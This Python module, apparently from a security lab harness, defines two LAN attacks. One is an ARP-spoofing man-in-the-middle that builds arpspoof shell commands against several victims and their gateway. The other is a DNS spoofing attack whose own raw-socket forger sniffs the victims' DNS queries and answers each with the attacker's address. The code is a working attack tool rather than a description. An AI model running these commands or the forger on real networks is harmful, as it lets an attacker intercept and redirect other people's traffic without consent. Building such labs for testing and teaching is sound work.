"""Spoofing on the LAN: the attacker becomes the gateway for one victim or several (arpspoof), and forges answers.

The forger is our own: dsniff's dnsspoof ignores queries with EDNS, and does not answer here at all.
"""

from __future__ import annotations

import shlex
import socket
import struct

from emtc_lab.attacks.base import Aim, attack, own, tool

_ETH_P_IP = 0x0800
_DNS = 53


def _between(aim: Aim) -> str:
    """Shell words that poison victims and gateway."""
    return " ".join(f"arpspoof -i eth0 -t {victim} -r {aim.site.gateway.ip} &" for victim in aim.victims)


@attack("arp-mitm", "spoofing", "lan", "device", most_victims=3)
def arp_mitm(aim: Aim) -> list[str]:
    """A man in the middle who forwards."""
    return ["sh", "-c", f"{_between(aim)} wait"]


@attack("dns-spoof", "spoofing", "lan", "device", most_victims=3)
def dns_spoof(aim: Aim) -> list[str]:
    """The same, and every name leads to the attacker."""
    return ["sh", "-c", f"{_between(aim)} {shlex.join(own('forge_dns', aim.site.attacker.ip, *aim.victims))}"]


@tool
def forge_dns(own_ip: str, *victims: str) -> None:
    """Answer every query of the victims that passes by with one's own address, until terminated."""
    wanted = {socket.inet_aton(victim) for victim in victims}
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_IP)) as ear,
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as mouth,
    ):
        while True:
            packet = ear.recv(2048)
            header = (packet[0] & 15) * 4
            if packet[12:16] in wanted and packet[9] == socket.IPPROTO_UDP and _port(packet, header + 2) == _DNS:
                answer = forged_answer(packet[header + 8 :], socket.inet_aton(own_ip))
                udp = packet[header + 2 : header + 4] + packet[header : header + 2]
                udp += struct.pack(">HH", 8 + len(answer), 0) + answer
                ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0)
                addresses = packet[16:20] + packet[12:16]
                mouth.sendto(ip + addresses + udp, (socket.inet_ntoa(packet[12:16]), 0))


def _port(packet: bytes, at: int) -> int:
    return int.from_bytes(packet[at : at + 2], "big")


def forged_answer(query: bytes, address: bytes) -> bytes:
    """A DNS response (RFC 1035, section 4) that gives an address for the query's only question."""
    end = query.index(b"\0", 12) + 5
    header = query[:2] + struct.pack(">5H", 0x8180, 1, 1, 0, 0)
    return header + query[12:end] + b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + address
